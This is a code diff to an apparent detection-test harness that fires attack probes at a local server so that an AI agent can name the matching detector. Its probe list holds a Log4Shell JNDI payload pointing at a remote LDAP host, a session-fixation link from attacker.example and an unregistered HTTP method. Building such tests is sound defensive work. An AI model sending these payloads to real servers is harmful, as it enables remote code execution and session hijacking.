@@ -27,6 +27,8 @@ const SCANNER = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
 
 interface Probe {
   target: string;
+  /** GET unless set. */
+  method?: string;
   userAgent: string;
   /** A detector the agent must name for an attack. */
   detector?: string;
@@ -51,6 +53,8 @@ const ATTACKS: Probe[] = [
   { target: '/search?q=%24%7Bjndi:ldap://203.0.113.9:1389/Exploit%7D', userAgent: BROWSER, detector: 'java-jndi-lookup' },
   // ...and session fixation from a link on another site.
   { target: '/account?jsessionid=PLANTED1', userAgent: BROWSER, host: 'shop.example', referer: 'https://attacker.example/offer', detector: 'session-id-param' },
+  // ...and a method nobody registered for HTTP, which nginx passes on as X-Original-Method.
+  { target: '/shop/cart', method: 'FOO', userAgent: BROWSER, detector: 'protocol-method-not-allowed' },
 ];
 
 interface Answer {
@@ -61,12 +65,14 @@ interface Answer {
 /** GET through node:http, which sends the target as written (fetch would resolve `../` and re-encode it). */
 function get(port: number, probe: Probe): Promise<Answer> {
   return new Promise((resolve, reject) => {
-    const request = http.get({ host: '127.0.0.1', port, path: probe.target, agent: false, headers: { 'user-agent': probe.userAgent, referer: probe.referer ?? 'https://shop.example/', ...(probe.host !== undefined ? { host: probe.host } : {}) } }, (response) => {
+    const headers = { 'user-agent': probe.userAgent, referer: probe.referer ?? 'https://shop.example/', ...(probe.host !== undefined ? { host: probe.host } : {}) };
+    const request = http.request({ host: '127.0.0.1', port, method: probe.method ?? 'GET', path: probe.target, agent: false, headers }, (response) => {
       let body = '';
       response.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
       response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
     });
     request.on('error', reject);
+    request.end();
   });
 }
 
